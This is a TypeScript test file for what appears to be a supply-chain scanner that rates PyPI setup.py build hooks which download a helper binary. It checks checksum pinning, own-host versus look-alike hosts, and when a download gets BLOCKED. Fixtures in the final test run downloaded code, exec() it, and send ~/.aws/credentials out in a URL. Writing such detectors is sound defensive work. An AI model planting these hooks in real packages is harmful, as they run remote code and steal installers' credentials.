/**
 * A setup.py build step that downloads a file, checks it against a checksum written in setup.py and only writes it
 * (no process started, nothing evaluated, no secret or environment read) is how prebuilt helpers ship: CAUTION, not
 * BLOCKED. The same download beside a process, an evaluation, a secret read, or without the pinned check stays BLOCKED.
 * (The honest case is PyPI SET5's twin that came out BLOCKED on arrival; twins may be tuned on.)
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { blocked, rate } from '../support/pypi-variant-rating.js';
import { sdist } from '../support/pypi-variants-pypi22.js';

const SHA = 'a3f1c2d4e5b60718293a4b5c6d7e8f90112233445566778899aabbccddeeff00';
const setup = (body: string) => `import hashlib, os, subprocess, urllib.request\nfrom setuptools import setup\nfrom setuptools.command.build_py import build_py\n\nURL = "https://releases.fasthelper.example/v1/helper-linux"\nSHA256 = "${SHA}"\n\nclass B(build_py):\n    def run(self):\n        super().run()\n${body}\n\nsetup(name="fasthelper", version="1.0.0", packages=["fasthelper"], cmdclass={"build_py": B})\n`;
const GET = '        data = urllib.request.urlopen(URL, timeout=30).read()\n';
const CHECK = '        if hashlib.sha256(data).hexdigest() != SHA256:\n            raise SystemExit("checksum mismatch")\n';
const WRITE = '        with open(os.path.join(self.build_lib, "fasthelper", "helper"), "wb") as f:\n            f.write(data)\n';

test('a verified download that is only written, from a host that is not the package\'s: CAUTION, not BLOCKED', async () => {
  const r = await rate(sdist('fasthelper', { 'setup.py': setup(GET + CHECK + WRITE).replace('releases.fasthelper.example', 'cdn.prebuilt-mirror.example') }));
  assert.is(r.level, 'CAUTION', r.rules.join(', '));
});

// pkg23py: from the package's own host (named exactly after it, or declared in its metadata) it is its own release
// channel checked by a pinned digest, weighed as npm's install_script_own_binary: LOW. The same download
// made executable (chmod) is still not started: the pattern's download_execute is LOW beside it.
test('the same from the package\'s own host, also made executable: below CAUTION', async () => {
  const own = await rate(sdist('fasthelper', { 'setup.py': setup(GET + CHECK + WRITE) }));
  assert.ok(own.level === 'CLEAR' || own.level === 'MONITORED', `${own.level} ${own.rules.join(', ')}`);
  const chmod = await rate(sdist('fasthelper', { 'setup.py': setup(`${GET}${CHECK}${WRITE}        os.chmod(os.path.join(self.build_lib, "fasthelper", "helper"), 0o755)\n`) }));
  assert.ok(chmod.level === 'CLEAR' || chmod.level === 'MONITORED', `${chmod.level} ${chmod.rules.join(', ')}`);
  // A host that only contains the name (a look-alike a thief may register) is not its own.
  const lookalike = await rate(sdist('fasthelper', { 'setup.py': setup(GET + CHECK + WRITE).replace('releases.fasthelper.example', 'fasthelper-cdn.example') }));
  assert.is(lookalike.level, 'CAUTION', lookalike.rules.join(', '));
});

test('the same download run, evaluated, beside a secret read, or without the check: BLOCKED', async () => {
  await blocked(sdist('fasthelper', { 'setup.py': setup(`${GET}${CHECK}${WRITE}        subprocess.Popen([os.path.join(self.build_lib, "fasthelper", "helper")])\n`) }));
  await blocked(sdist('fasthelper', { 'setup.py': setup(`${GET}${CHECK}        exec(data.decode())\n`) }));
  await blocked(sdist('fasthelper', { 'setup.py': setup(`${GET}${CHECK}${WRITE}        urllib.request.urlopen(URL + "?k=" + open(os.path.expanduser("~/.aws/credentials")).read())\n`) }));
  await blocked(sdist('fasthelper', { 'setup.py': setup(GET + WRITE) }), 'setup_py_network');
});

test.run();
